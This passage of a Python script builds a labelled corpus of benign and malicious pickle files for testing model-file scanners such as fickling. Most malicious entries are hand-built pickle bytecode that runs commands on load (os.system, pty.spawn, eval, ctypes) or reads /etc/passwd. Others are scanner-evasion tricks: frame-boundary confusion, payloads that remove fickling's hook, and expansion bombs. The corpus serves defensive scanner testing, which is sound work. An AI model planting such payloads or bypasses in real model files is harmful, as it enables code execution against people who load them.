          "test_scanner.py::test_scan_pickle_bytes_strict", False,
          note="collections.Counter: Suspicious (Dangerous only with strict=True)")
    s.add(P, "mock_pickle_benign.pkl", pickle.dumps({"a": 0, "b": 1, "c": 2}, protocol=4),
          "test_scanner.py::test_scan_url", False)
    s.add(P, "mock_pickle_malicious.pkl", dumps(malicious2, 4), "test_scanner.py::test_scan_url", True)
    s.add(P, "mock_zip_benign.zip", zip_bytes([("data.pkl", pickle.dumps({"a": 0, "b": 1, "c": 2}, protocol=4))]),
          "test_scanner.py::test_scan_url", False)
    s.add(P, "mock_zip_malicious.zip", zip_bytes([("data.pkl", m1)]), "test_scanner.py::test_scan_url", True)
    s.add(P, "totally-harmless-model.bin", zip_bytes([("archive/data.pkl", m1)]),
          "test_scanner.py::test_scan_huggingface_model", True, note="zip with archive/data.pkl calling eval")


# ---------------------------------------------------------------------------------------------
# fickling
# ---------------------------------------------------------------------------------------------

def fickling(s):
    F = "fickling"
    B = "test_bypasses.py::TestBypasses::"

    def mal(name, data, test, asserted=True, note=None):
        s.add(F, name, data, test, True, asserted, note)

    def ben(name, data, test, asserted=True, note=None):
        s.add(F, name, data, test, False, asserted, note)

    mal("missing_pty_unsafe_imports_ghsa.pkl",
        op_proto(4) + op_frame(26) + sbu("pty") + MEMO + sbu("spawn") + MEMO + STACK_GLOBAL + MEMO + sbu("id") + MEMO
        + TUPLE1 + MEMO + REDUCE + MEMO + sbu("gottem") + MEMO + BUILD + STOP,
        B + "test_missing_pty_unsafe_imports_ghsa", note="declared FRAME length 26 as in the test")
    mal("missing_pty_unsafe_imports_pr.pkl", MARK + glob("pty", "spawn") + string("id") + OBJ + STOP,
        B + "test_missing_pty_unsafe_imports_pr")
    import marshal

    code = compile('import os\nos.system("id")', "<string>", "exec")
    mal("missing_marshal_and_types.pkl",
        op_proto(4) + op_frame(0) + sbu("marshal") + sbu("loads") + STACK_GLOBAL + MEMO + binget(0)
        + short_binbytes(marshal.dumps(code)) + TUPLE1 + REDUCE + MEMO + sbu("types") + sbu("FunctionType")
        + STACK_GLOBAL + MEMO + binget(2) + binget(1) + EMPTY_DICT + TUPLE2 + REDUCE + MEMO + binget(3) + EMPTY_TUPLE
        + REDUCE + MEMO + sbu("gottem") + BUILD + STOP,
        B + "test_missing_marshal_and_types")

    def call1(module, name, *args, proto=5, frame=None):
        body = sbu(module) + MEMO + sbu(name) + MEMO + STACK_GLOBAL + MEMO
        for a in args:
            body += (sbu(a) if isinstance(a, str) else short_binbytes(a)) + MEMO
        body += {1: TUPLE1, 2: TUPLE2}[len(args)] + MEMO + REDUCE + MEMO + STOP
        return op_proto(proto) + (op_frame(frame) if frame is not None else b"") + body

    mal("missing_runpy.pkl", call1("runpy", "run_path", "/tmp/malicious.py", frame=46), B + "test_missing_runpy")
    mal("missing_cprofile.pkl", call1("cProfile", "run", "print('CPROFILE_RCE_CONFIRMED')", frame=58),
        B + "test_missing_cprofile")

    def getattr_chain(module, name, first_args, attr, last_arg):
        # getattr(module.name(*first_args), attr)(last_arg), memoizing everything
        p = op_proto(5) + sbu("builtins") + MEMO + sbu("getattr") + MEMO + STACK_GLOBAL + MEMO
        p += sbu(module) + MEMO + sbu(name) + MEMO + STACK_GLOBAL + MEMO
        if first_args is None:
            p += EMPTY_TUPLE + MEMO
        else:
            p += sbu(first_args) + MEMO + TUPLE1 + MEMO
        p += REDUCE + MEMO + sbu(attr) + MEMO + TUPLE2 + MEMO + REDUCE + MEMO
        p += (short_binbytes(last_arg) if isinstance(last_arg, bytes) else sbu(last_arg)) + MEMO
        return p + TUPLE1 + MEMO + REDUCE + MEMO + STOP

    mal("missing_ctypes.pkl", getattr_chain("ctypes", "CDLL", "libc.dylib", "system", b"id"), B + "test_missing_ctypes")
    mal("missing_pydoc.pkl",
        op_proto(5) + sbu("pydoc") + MEMO + sbu("locate") + MEMO + STACK_GLOBAL + MEMO + sbu("os.system") + MEMO
        + TUPLE1 + MEMO + REDUCE + MEMO + sbu("id") + MEMO + TUPLE1 + MEMO + REDUCE + MEMO + STOP,
        B + "test_missing_pydoc")
    mal("missing_importlib.pkl", getattr_chain("importlib", "import_module", "os", "system", "id"),
        B + "test_missing_importlib")
    mal("missing_code.pkl", getattr_chain("code", "InteractiveInterpreter", None, "runsource", 'import os; os.system("id")'),
        B + "test_missing_code")
    mal("missing_multiprocessing.pkl",
        op_proto(5) + op_frame(74) + sbu("multiprocessing.util") + MEMO + sbu("spawnv_passfds") + MEMO + STACK_GLOBAL
        + MEMO + short_binbytes(b"/bin/sh") + MEMO + EMPTY_LIST + MEMO + MARK + binget(3) + short_binbytes(b"-c")
        + MEMO + short_binbytes(b"id") + MEMO + APPENDS + EMPTY_TUPLE + TUPLE3 + MEMO + REDUCE + MEMO + STOP,
        B + "test_missing_multiprocessing")
    mal("builtins_import_bypass.pkl",
        glob("builtins", "__import__") + string("os") + TUPLE1 + REDUCE + put(0) + POP + glob("builtins", "getattr")
        + get(0) + string("system") + TUPLE2 + REDUCE + put(1) + POP + get(1) + string("whoami") + TUPLE1 + REDUCE
        + STOP, B + "test_builtins_import_bypass")
    ben("safe_builtins_len.pkl", glob("builtins", "len") + EMPTY_LIST + TUPLE1 + REDUCE + STOP,
        B + "test_safe_builtins_not_flagged")
    ben("safe_builtin_dict.pkl", glob("builtins", "dict") + EMPTY_TUPLE + REDUCE + STOP,
        B + "test_safe_builtin_dict_not_flagged")
    mal("unsafe_builtins_getattr.pkl", glob("builtins", "getattr") + string("os") + string("system") + TUPLE2 + REDUCE
        + STOP, B + "test_unsafe_builtins_still_flagged")
    mal("unsafe_builtin_eval.pkl", glob("builtins", "eval") + string("print('hello')") + TUPLE1 + REDUCE + STOP,
        B + "test_unsafe_builtin_eval_still_flagged")
    mal("operator_methodcaller.pkl",
        glob("builtins", "__import__") + MARK + uni("os") + TUPLE + REDUCE + put(0) + POP
        + glob("_operator", "methodcaller") + MARK + uni("system") + uni('echo "pwned by _operator.methodcaller"')
        + TUPLE + REDUCE + MARK + get(0) + TUPLE + REDUCE + STOP, B + "test_operator_methodcaller")
    mal("distutils_write_file.pkl",
        op_proto(4) + sbu("distutils.file_util") + sbu("write_file") + STACK_GLOBAL + sbu("/tmp/malicious.txt") + MARK
        + sbu("malicious content") + LIST + TUPLE2 + REDUCE + STOP, B + "test_distutils_write_file")
    mal("io_fileio.pkl", op_proto(4) + sbu("_io") + sbu("FileIO") + STACK_GLOBAL + sbu("/etc/passwd") + TUPLE1 + REDUCE
        + STOP, B + "test_io_fileio")
    mal("numpy_f2py_getlincoef.pkl",
        op_proto(4) + sbu("numpy.f2py.crackfortran") + sbu("getlincoef") + STACK_GLOBAL
        + sbu("__import__('os').system('id')") + EMPTY_DICT + TUPLE2 + REDUCE + STOP, B + "test_numpy_f2py_getlincoef")
    for module, cls, port in (("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143), ("ftplib", "FTP", 21),
                              ("poplib", "POP3", 110), ("telnetlib", "Telnet", 23), ("nntplib", "NNTP", 119)):
        mal(f"network_protocol_ssrf_{module}.pkl",
            op_proto(4) + glob(module, cls) + sbu("127.0.0.1") + binint2(port) + TUPLE2 + REDUCE + EMPTY_DICT + BUILD
            + STOP, B + "test_network_protocol_ssrf")
    mal("asyncio_subprocess.pkl",
        op_proto(4) + op_frame(81) + sbu("asyncio.unix_events") + MEMO + sbu("_UnixSubprocessTransport._start") + MEMO
        + STACK_GLOBAL + MEMO + MARK + EMPTY_DICT + MEMO + sbu("whoami") + MEMO + NEWTRUE + NONE + NONE + NONE
        + binint1(0) + TUPLE + MEMO + REDUCE + MEMO + STOP, B + "test_asyncio_subprocess")
    mal("obj_pop_call_invisibility.pkl",
        op_proto(4) + MARK + sbu("smtplib") + sbu("SMTP") + STACK_GLOBAL + sbu("127.0.0.1") + OBJ + POP + NONE + STOP,
        B + "test_obj_pop_call_invisibility", note="the OBJ call's result is popped; the pickle returns None")
    mal("missing_uuid.pkl", op_proto(4) + sbu("uuid") + sbu("_get_command_stdout") + STACK_GLOBAL + sbu("echo")
        + sbu("PROOF_OF_CONCEPT") + TUPLE2 + REDUCE + STOP, B + "test_missing_uuid")
    mal("missing_aix_support.pkl", op_proto(4) + sbu("_aix_support") + sbu("_read_cmd_output") + STACK_GLOBAL
        + sbu("echo PROOF_OF_CONCEPT") + TUPLE1 + REDUCE + STOP, B + "test_missing_aix_support")
    mal("missing_osx_support.pkl", op_proto(4) + sbu("_osx_support") + sbu("_find_build_tool") + STACK_GLOBAL
        + sbu("x; echo INJECTED #") + TUPLE1 + REDUCE + STOP, B + "test_missing_osx_support")
    mal("dotted_attr_via_stdlib_module.pkl", op_proto(4) + sbu("pathlib") + sbu("os.system") + STACK_GLOBAL + EMPTY_TUPLE
        + REDUCE + STOP, B + "test_dotted_attr_via_stdlib_module")

    def import_only(module, name):
        return op_proto(4) + sbu(module) + sbu(name) + STACK_GLOBAL + STOP

    def import_call0(module, name, proto=4):
        return op_proto(proto) + sbu(module) + sbu(name) + STACK_GLOBAL + EMPTY_TUPLE + REDUCE + STOP

    mal("ml_allowlist_ast_parse.pkl", import_only("ast", "parse"),
        B + "test_ml_allowlist_not_shadowed_by_unsafe_imports_ml",
        note="only an import of ast.parse, no call; flagged by the MLAllowlist analysis")
    for module in ("_interpreters", "_xxsubinterpreters"):
        mal(f"private_stdlib_interpreters_{module}.pkl", import_call0(module, "create"),
            B + "test_private_stdlib_interpreters_blocklisted")
    ben("private_stdlib_allowlist_codecs_encode.pkl", import_only("_codecs", "encode"),
        B + "test_private_stdlib_allowlist", note="import only")
    ben("private_stdlib_allowlist_future_annotations.pkl", import_only("__future__", "annotations"),
        B + "test_private_stdlib_allowlist", note="import only")
    mal("private_stdlib_allowlist_future_ssl.pkl", import_only("__future__", "_ssl.RAND_bytes"),
        B + "test_private_stdlib_allowlist", note="dotted name under __future__; import only")

    # Frame boundaries: BINBYTES inside a 2-byte frame reads past it and hides a GLOBAL/REDUCE.
    hidden = b"c" + b"os\nsystem\n" + uni("echo pwned") + TUPLE1 + REDUCE
    divergence = (op_proto(5) + NONE + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + POP + MARK + op_frame(2)
                  + b"B" + b"\x07\x01\x00\x00" + b"\x00\x00" + (hidden + MARK).ljust(256 + 5, NONE) + POP_MARK + STOP)
    mal("frame_boundary_divergence.pkl", divergence, B + "test_frame_boundary_divergence")

    def framed(body, declared):
        return op_proto(5) + op_frame(declared) + body

    for tag, payload in (
        ("binbytes", framed(b"B" + struct.pack("<I", 20) + b"A" * 20, 5)),
        ("short_binunicode", framed(b"\x8c\x14" + b"A" * 20, 3)),
        ("global_module", framed(b"c" + b"macos\nsystem\n", 4)),
        ("global_attr", framed(b"c" + b"os\nsystem\n", 7)),
        ("unicode", framed(b"V" + b"hello world\n", 5)),
        ("binint", framed(b"J" + struct.pack("<i", 7), 2)),
        ("nested_frame", op_proto(5) + op_frame(30) + NONE + op_frame(2) + NONE),
    ):
        mal(f"frame_straddle_{tag}.pkl", payload + STOP, B + "test_frame_boundary_straddle_variants")

    well_formed = (
        ("small_list", [1, 2, 3, 4], (2, 4, 5)),
        ("large_unframed_bytes", b"x" * 100000, (2, 5)),
        ("interleaved", [1, b"y" * 100000, 2], (2, 5)),
        ("several_full_frames", list(range(200000)), (4,)),
        ("nested_containers", {"a": [1, 2, {"b": (3, 4)}], "c": [5, 6]}, (2, 4, 5)),
    )
    for tag, obj, protos in well_formed:
        for proto in protos:
            ben(f"well_formed_{tag}_p{proto}.pkl", pickle.dumps(obj, protocol=proto),
                B + "test_well_formed_frames_are_not_flagged",
                note="the test covers protocols 2, 4 and 5; big objects kept for some only" if len(protos) < 3 else None)

    C = "test_bypasses.py::TestUnsafeModuleCoverage::"
    for module in ("torch.hub", "torch._dynamo", "torch._inductor", "torch.jit", "torch.compile", "numpy.f2py",
                   "numpy.distutils"):
        mal(f"unsafe_module_{module}.pkl", op_proto(4) + glob(module, "dangerous") + EMPTY_TUPLE + REDUCE + STOP,
            C + "test_all_unsafe_modules_detected")
    for module, func in (("torch", "load"), ("torch", "compile"), ("torch.storage", "_load_from_bytes"),
                         ("torch.utils._config_module", "ConfigModule"),
                         ("torch.distributed.elastic.rendezvous.api", "basichandlers"),
                         ("numpy.testing._private.utils", "runstring"), ("_io", "FileIO"), ("_io", "open"),
                         ("io", "FileIO"), ("io", "open")):
        mal(f"unsafe_import_{module}.{func}.pkl", op_proto(4) + glob(module, func) + EMPTY_TUPLE + REDUCE + STOP,
            C + "test_all_unsafe_imports_detected")

    # test_crashes.py
    K = "test_crashes.py::TestCrashes::"
    import base64

    sd = base64.b64decode(
        "gAJ9cQAoWA8AAABzdHJpbmdfdG9fdG9rZW5xAX1xAlgBAAAAKnEDY3RvcmNoLl91dGlscwpfcmVi"
        "dWlsZF90ZW5zb3JfdjIKcQQoKFgHAAAAc3RvcmFnZXEFY3RvcmNoCkxvbmdTdG9yYWdlCnEGWAEA"
        "AAAwcQdYAwAAAGNwdXEIS010cQlRSwEpKYljY29sbGVjdGlvbnMKT3JkZXJlZERpY3QKcQopUnEL"
        "dHEMUnENc1gPAAAAc3RyaW5nX3RvX3BhcmFtcQ5jdG9yY2gubm4ubW9kdWxlcy5jb250YWluZXIK"
        "UGFyYW1ldGVyRGljdApxDymBcRB9cREoWAgAAAB0cmFpbmluZ3ESiFgLAAAAX3BhcmFtZXRlcnNx"
        "E2gKKVJxFGgDY3RvcmNoLl91dGlscwpfcmVidWlsZF9wYXJhbWV0ZXIKcRVoBCgoaAVjdG9yY2gK"
        "RmxvYXRTdG9yYWdlCnEWWAEAAAAxcRdYBgAAAGN1ZGE6MHEYTQADdHEZUUsASwFNAAOGcRpNAANL"
        "AYZxG4loCilScRx0cR1ScR6IaAopUnEfh3EgUnEhc1gIAAAAX2J1ZmZlcnNxImgKKVJxI1gbAAAA"
        "X25vbl9wZXJzaXN0ZW50X2J1ZmZlcnNfc2V0cSRjX19idWlsdGluX18Kc2V0CnElXXEmhXEnUnEo"
        "WA8AAABfYmFja3dhcmRfaG9va3NxKWgKKVJxKlgWAAAAX2lzX2Z1bGxfYmFja3dhcmRfaG9va3Er"
        "TlgOAAAAX2ZvcndhcmRfaG9va3NxLGgKKVJxLVgSAAAAX2ZvcndhcmRfcHJlX2hvb2tzcS5oCilS"
        "cS9YEQAAAF9zdGF0ZV9kaWN0X2hvb2tzcTBoCilScTFYGgAAAF9sb2FkX3N0YXRlX2RpY3RfcHJl"
        "X2hvb2tzcTJoCilScTNYGwAAAF9sb2FkX3N0YXRlX2RpY3RfcG9zdF9ob29rc3E0aAopUnE1WAgA"
        "AABfbW9kdWxlc3E2aAopUnE3WAUAAABfa2V5c3E4fXE5aANOc3VidS4=")
    ben("stable_diffusion.pkl", sd, K + "test_stable_diffusion", asserted=False,
        note="a stable-diffusion embedding dict: tensors + torch.nn ParameterDict built with NEWOBJ")
    mal("pop_mark.pkl",
        b"\x80\x04\x95\x82\x00\x00\x00\x00\x00\x00\x00(\x8c\x05numpy\x8c\x06poly1d\x93\x94\x8c\x05numpy\x8c\x04size"
        b"\x93\x94\x8c\x05numpy\x8c\x0c__builtins__\x93\x94h\x00N\x85R\x94h\x03\x94h\x02\x94h\x04(\x8c\x05shapeh\x05"
        b"dbh\x01h\x04\x8c\x04eval\x86R\x8c\x1d__import__('os').system('id')\x85R1N.",
        K + "test_pop_mark", asserted=False, note="numpy.poly1d/__builtins__ tricks reaching eval (mindspore #183)")
    mal("obj.pkl", b'(cos\nsystem\nS"whoami"\no.', K + "test_obj", asserted=False)
    alphabet = "Jw~[v5QpA(BY%aKnyT&*x0r9-OpfF}HN4$GU2VhS@XEq!Zt>6_R7#]1b{z3M^D?)d8eImgckPLiuoClW<js"
    p = op_proto(4) + glob("operator", "itemgetter") + binput(0) + POP
    p += glob("builtins", "getattr") + MARK + sbu("") + sbu("join") + TUPLE + REDUCE + MEMO
    p += binget(0) + MARK + binint1(77) + binint1(83) + TUPLE + REDUCE + MARK + binunicode(alphabet) + TUPLE + REDUCE + MEMO
    p += binget(1) + MARK + binget(2) + TUPLE + REDUCE + MEMO
    p += binget(0) + MARK + b"".join(binint1(i) for i in (83, 16, 83, 47, 67, 69)) + TUPLE + REDUCE
    p += MARK + binunicode(alphabet) + TUPLE + REDUCE + MEMO
    p += binget(1) + MARK + binget(4) + TUPLE + REDUCE + MEMO
    p += binget(3) + binget(5) + STACK_GLOBAL + STOP
    mal("stack_global_dynamic_import.pkl", p, K + "test_stack_global_dynamic_import", asserted=False,
        note="builds 'os'/'system' with itemgetter+join, then STACK_GLOBAL (no call)")
    mal("missing_mark_before_tuple.pkl", b"\x80\x04t.", K + "test_missing_mark_before_tuple",
        note="malformed: TUPLE without MARK; fickling flags interpretation errors")
    ben("cyclic_list.pkl", op_proto(2) + EMPTY_LIST + MEMO + get(0) + APPEND + STOP, K + "test_cyclic_pickle",
        asserted=False, note="MEMOIZE under protocol 2")
    ben("cyclic_dict_value.pkl", op_proto(2) + EMPTY_DICT + MEMO + sbu("self") + get(0) + SETITEM + STOP,
        K + "test_cyclic_pickle", asserted=False)
    mal("impossible_cycle_dict_key.pkl", op_proto(2) + EMPTY_DICT + MEMO + get(0) + sbu("value") + SETITEM + STOP,
        K + "test_impossible_cyclic_pickle", note="unhashable dict key; flagged as an interpretation error")
    mal("impossible_cycle_set.pkl", op_proto(4) + EMPTY_SET + MEMO + MARK + get(0) + ADDITEMS + STOP,
        K + "test_impossible_cyclic_pickle", note="set containing itself; flagged as an interpretation error")
    L = "test_crashes.py::TestInterpreterLimits::"
    ben("limits_many_gets.pkl", op_proto(4) + EMPTY_LIST + MEMO + (binget(0) + APPEND) * 100 + STOP,
        L + "test_opcode_limit_enforcement", asserted=False)
    ben("limits_many_dups.pkl", op_proto(4) + EMPTY_LIST + DUP * 50 + STOP, L + "test_stack_depth_limit_enforcement",
        asserted=False)
    ben("limits_many_memoize.pkl", op_proto(4) + EMPTY_LIST + MEMO * 20 + STOP, L + "test_memo_size_limit_enforcement",
        asserted=False)

    # test_expansion_attack_analysis.py
    E = "test_expansion_attack_analysis.py::TestExpansionAttackAnalysis::"
    mal("memo_expansion.pkl", op_proto(4) + EMPTY_LIST + MEMO + (binget(0) + APPEND) * 60 + STOP,
        E + "test_memo_expansion_detection", note="flagged SUSPICIOUS (expansion heuristic), no code")
    mal("dup_expansion.pkl", op_proto(4) + EMPTY_LIST + DUP * 150 + STOP, E + "test_dup_expansion_detection",
        note="flagged SUSPICIOUS (expansion heuristic), no code")
    ben("legitimate_list.pkl", pickle.dumps(list(range(100)), protocol=4), E + "test_legitimate_data_not_flagged")
    mal("dup_nested_expansion.pkl",
        op_proto(4) + MARK * 3 + sbu("lol") + (DUP * 3 + LIST) * 3 + STOP, E + "test_dup_nested_expansion_pattern",
        note="billion laughs with DUP (flagged with a lowered threshold)")
    mal("memo_nested_expansion.pkl",
        op_proto(4) + MARK * 3 + sbu("lol") + b"".join(binput(i) + binget(i) * 3 + LIST for i in range(3)) + STOP,
        E + "test_memo_nested_expansion_pattern", note="billion laughs with memo GETs (flagged with lowered thresholds)")
    mal("resource_exhaustion.pkl", op_proto(4) + EMPTY_LIST + MEMO + (binget(0) + APPEND) * 200 + STOP,
        E + "test_check_safety_catches_resource_exhaustion", note="flagged SUSPICIOUS (GET/PUT ratio), no code")

    # test_analysis.py, test_scanner_deactivation_analysis.py
    for module, name in (("collections", "deque"), ("collections.abc", "Iterable")):
        ben(f"benign_import_{module}.{name}.pkl", import_only(module, name), "test_analysis.py::TestAnalysis::test_benign_pickle",
            note="import only")
    D = "test_scanner_deactivation_analysis.py::TestScannerDeactivationAnalysis::"
    mal("fickling_remove_hook.pkl", import_call0("fickling.hook", "remove_hook"), D + "test_fickling_remove_hook")
    mal("fickling_deactivate_safe_ml.pkl", import_call0("fickling.hook", "deactivate_safe_ml_environment"),
        D + "test_fickling_deactivate_safe_ml")
    mal("fickling_remove_hook_global.pkl", glob("fickling.hook", "remove_hook") + EMPTY_TUPLE + REDUCE + STOP,
        D + "test_fickling_remove_hook_via_global_opcode")
    ben("benign_ordereddict_call.pkl", import_call0("collections", "OrderedDict"), D + "test_benign_import_not_flagged",
        note="their test asserts only that ScannerDeactivation does not fire")
    for module in ("fickling", "picklescan", "modelscan", "model_unpickler", "saferpickle", "modelaudit"):
        mal(f"scanner_module_{module}.pkl", import_call0(module, "some_func"), D + "test_all_scanner_modules_covered")

    # test_pickle.py
    I = "test_pickle.py::TestInterpreter::"
    for tag, obj in (("int", 1337), ("lists", [1, 2, 3, 4, 5]), ("tuples", (1, 2, 3, 4, 5)), ("dicts", {"a": 1, "b": 2}),
                     ("strings", "abcdefg"), ("bytes", b"abcdefg")):
        ben(f"correctness_{tag}.pkl", pickle.dumps(obj, protocol=4), I + f"test_{tag}", asserted=False)
    mal("call_eval.pkl", glob("builtins", "eval") + MARK + uni("(lambda:1234)()") + TUPLE + REDUCE + STOP,
        I + "test_call", asserted=False)
    ben("inst_int.pkl", MARK + uni("1234") + b"ibuiltins\nint\n" + STOP, I + "test_inst", asserted=False,
        note="INST builtins.int('1234')")
    base = pickle.dumps([1, 2, 3, 4], protocol=4)
    body = base[11:-1]  # after PROTO + FRAME, before STOP
    ev = glob("builtins", "eval") + MARK + sbu("[5, 6, 7, 8]") + TUPLE
    # insert_python_eval(run_first=True, use_output_as_unpickle_result=True): eval first, list discarded
    mal("insert_eval_result.pkl", framed4(ev + REDUCE + body + POP + STOP), I + "test_insert", asserted=False)
    mal("insert_eval_run_last.pkl", framed4(ev + body + MEMO + POP + REDUCE + POP + get(1) + STOP),
        I + "test_insert_run_last", asserted=False, note="eval runs after the list is built; the list is the result")
    mal("insert_eval_run_last_replace.pkl", framed4(ev + body + POP + REDUCE + STOP),
        I + "test_insert_run_last_replace_output", asserted=False)
    ben("insert_tuple_list_arg.pkl",
        framed4(glob("builtins", "tuple") + MARK + EMPTY_LIST + MARK + binint1(1) + binint1(2) + EMPTY_LIST + MARK
                + sbu("a") + sbu("b") + APPENDS + binint1(3) + APPENDS + TUPLE + body + POP + REDUCE + STOP),
        I + "test_insert_list_arg", asserted=False, note="injected call of builtins.tuple: harmless")
    mal("unused_variables.pkl", framed4(ev + body + MEMO + POP + REDUCE + POP + get(1) + STOP),
        I + "test_unused_variables", note="eval after the list, its result unused: OVERTLY_MALICIOUS")
    s.add(F, "stacked.pkl", pickle.dumps([1, 2, 3, 4], protocol=4) + pickle.dumps([5, 6, 7, 8], protocol=4),
          I + "test_stacked_pickles", False, False, "two pickles back to back")
    s.add(F, "stacked3.pkl", pickle.dumps([1, 2, 3, 4], protocol=4) + pickle.dumps(["a", "b", "c", "d"], protocol=4)
          + pickle.dumps(1234567, protocol=4), I + "test_insert_stacked", False, False, "three pickles back to back")
    mal("duplicate_proto.pkl", base[:-1] + op_proto(1) + op_proto(2) + STOP, I + "test_duplicate_proto",
        note="PROTO 1 and PROTO 2 again before STOP: LIKELY_UNSAFE")
    ben("ext1.pkl", bytes([0x80, 2, 0x82, 42, 0x29, 0x52, 0x2E]), I + "test_ext1", asserted=False,
        note="EXT1 42 (their test registers collections.OrderedDict)")
    ben("ext2.pkl", bytes([0x80, 2, 0x83]) + struct.pack("<H", 1000) + bytes([0x29, 0x52, 0x2E]), I + "test_ext2",
        asserted=False, note="EXT2 1000 (collections.Counter in their test)")
    ben("ext4.pkl", bytes([0x80, 2, 0x84]) + struct.pack("<I", 100000) + bytes([0x29, 0x52, 0x2E]), I + "test_ext4",
        asserted=False, note="EXT4 100000 (collections.deque in their test)")
    ben("ext_with_function.pkl", bytes([0x80, 2, 0x82, 200]) + sbu("/home") + sbu("user") + TUPLE2 + REDUCE + STOP,
        I + "test_ext_with_function", asserted=False, note="EXT1 200 (os.path.join in their test)")
    ben("variable_used_only_inside_a_tuple.pkl",
        op_proto(2) + EMPTY_LIST + sbu("decimal") + sbu("Decimal") + STACK_GLOBAL + EMPTY_TUPLE + REDUCE + TUPLE1
        + BUILD + STOP, I + "test_variable_used_only_inside_a_tuple", note="decimal.Decimal(): LIKELY_SAFE")
    ben("variable_used_only_in_an_assignment_target.pkl",
        op_proto(2) + EMPTY_DICT + sbu("a") + sbu("1") + SETITEM + sbu("decimal") + sbu("Decimal") + STACK_GLOBAL
        + sbu("1") + TUPLE1 + REDUCE + sbu("2") + SETITEM + STOP,
        I + "test_variable_used_only_in_an_assignment_target", note="decimal.Decimal('1') as a key: LIKELY_SAFE")

    # test_scan_api.py, test_context.py, test_hook.py, test_loads_api.py, test_unpickler.py
    S = "test_scan_api.py::"
    payload = dumps(Call(Ref("posix", "system"), "echo pwned"), 4)
    mal("scan_file_payload.pkl", payload, S + "TestScanFile::test_detects_malicious_payload")
    ben("scan_file_safe.pkl", pickle.dumps([1, 2, 3], protocol=4), S + "TestScanFile::test_safe_data")
    ben("scan_file_corrupted.pkl", b"\x00\x01\x02\x03corrupt", S + "TestScanFile::test_graceful_corrupted",
        note="not a pickle: scan reports errors (not safe), not malicious")
    mal("zip_malicious_model.zip", zip_bytes([("model.pkl", payload)]), S + "TestScanZipArchive::test_detects_malicious_pkl")
    ben("zip_readme_and_model.zip", zip_bytes([("readme.txt", b"hello"), ("model.pkl", pickle.dumps([1, 2, 3], protocol=4))]),
        S + "TestScanZipArchive::test_skips_non_pickle_extensions")
    ben("zip_all_pickle_extensions.zip",
        zip_bytes([(f"model.{ext}", pickle.dumps(42, protocol=4)) for ext in ("pkl", "pickle", "bin")]),
        S + "TestScanZipArchive::test_scans_all_pickle_extensions")
    ben("not_a_zip.zip", b"not a zip file at all", S + "TestScanZipArchive::test_bad_zip_graceful")
    ben("zip_good_and_bad_members.zip",
        zip_bytes([("good.pkl", pickle.dumps([1, 2, 3], protocol=4)), ("bad.pkl", b"\x00\x01corrupt_pickle")]),
        S + "TestScanZipArchive::test_graceful_mixed_good_and_bad_members", note="one member is not a pickle")
    ben("relaxed_zip_valid.zip", zip_bytes([("data.pkl", pickle.dumps({"key": "value"}, protocol=4))]),
        S + "TestRelaxedZipFile::test_reads_valid_files")
    bad_crc = bytearray(zip_bytes([("data.pkl", b"test pickle data")]))
    at = bad_crc.find(b"PK\x01\x02") + 16
    bad_crc[at:at + 4] = struct.pack("<I", 0xDEADBEEF)
    ben("relaxed_zip_bad_crc.zip", bytes(bad_crc), S + "TestRelaxedZipFile::test_reads_file_with_bad_crc",
        asserted=False, note="central-directory CRC wrong; the member is not a pickle")
    ben("loads_safe_data.pkl", pickle.dumps([1, 2, 3, {"key": "value"}], protocol=4),
        "test_loads_api.py::TestLoadsAPI::test_loads_safe_data")
    ben("loads_signature_p2.pkl", pickle.dumps({"a": 1, "b": 2}, protocol=2),
        "test_loads_api.py::TestLoadsAPI::test_loads_matches_pickle_signature")
    for test, text in (("test_context.py::TestContextManager::test_all_entry_points_hooked", "echo 'I should have been stopped'"),
                       ("test_hook.py::TestHook::test_run_hook_covers_all_entry_points",
                        "echo 'I should have been stopped by the hook'"),
                       ("test_loads_api.py::TestLoadsAPI::test_loads_unsafe_data", "echo 'malicious code'")):
        mal(test.split("::")[0].replace(".py", "") + "_payload.pkl", dumps(Call(Ref("posix", "system"), text), 4), test)
    inner = dumps(Call(Ref("posix", "system"), "echo 'I should have been stopped by the hook'"), 4)
    loads = Ref("_pickle", "loads")
    nested = dumps(Call(loads, dumps(Call(Ref("torch.storage", "_load_from_bytes"), inner), 4)), 4)
    mal("unpickler_nested.pkl", nested, "test_unpickler.py::TestUnpickler::test_nested_unsafe_pickle",
        note="pickle.loads(torch.storage._load_from_bytes(os.system pickle))")
    mal("unpickler_allowed_loads_dtype.pkl", dumps(Call(loads, pickle.dumps(__import__("numpy").dtype(">i4"), protocol=4)), 4),
        "test_unpickler.py::TestUnpickler::test_allowed_unsafe_pickle", asserted=False,
        note="pickle.loads of a numpy dtype pickle: loads only because the test passes also_allow=['pickle.loads']")

    # test_polyglot.py / test_pytorch.py (format identification; no safety assertions). They use
    # torchvision's mobilenet_v2 and a squeezenet TorchScript; ours are small torch.nn models.
    import numpy as np
    import torch

    Y = "test_polyglot.py::TestPolyglotModule::"
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.Linear(16, 2))
    v13 = torch_save_bytes(model, name="model_v1_3")
    ben("model_v1_3.pth", v13, Y + "test_v1_3", asserted=False, note="whole nn.Module pickled (zip): the model's classes")
    ben("model_legacy_pickle.pth", torch_save_bytes(model, zipfile_format=False), Y + "test_legacy_pickle",
        asserted=False, note="whole nn.Module, legacy stacked-pickle format")
    with tempfile.TemporaryDirectory() as tmp:
        ts_path = os.path.join(tmp, "ts.pt")
        torch.jit.save(torch.jit.script(model), ts_path)
        with open(ts_path, "rb") as f:
            ts = f.read()
    ben("torchscript_v1_4.pt", ts, Y + "test_torchscript", asserted=False, note="TorchScript archive")
    # create_polyglot: the v1.3 zip plus the TorchScript's constants.pkl and version at the top level
    with zipfile.ZipFile(io.BytesIO(ts)) as zts:
        names = zts.namelist()
        constants = zts.read(next(n for n in names if n.endswith("constants.pkl")))
        version = zts.read(next(n for n in names if n.endswith("/version") or n == "version"))
    buf = io.BytesIO(v13)
    with zipfile.ZipFile(buf, "a") as zout:
        for name, data in (("constants.pkl", constants), ("version", version)):
            zout.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    ben("torchscript_polyglot.pt", buf.getvalue(), Y + "test_create_standard_torchscript_polyglot", asserted=False,
        note="PyTorch v1.3 zip with TorchScript constants.pkl/version added")
    ben("model_legacy_tar.pth", tar_bytes([("pickle", b"dummy content"), ("storages/", None), ("tensors/", None)]),
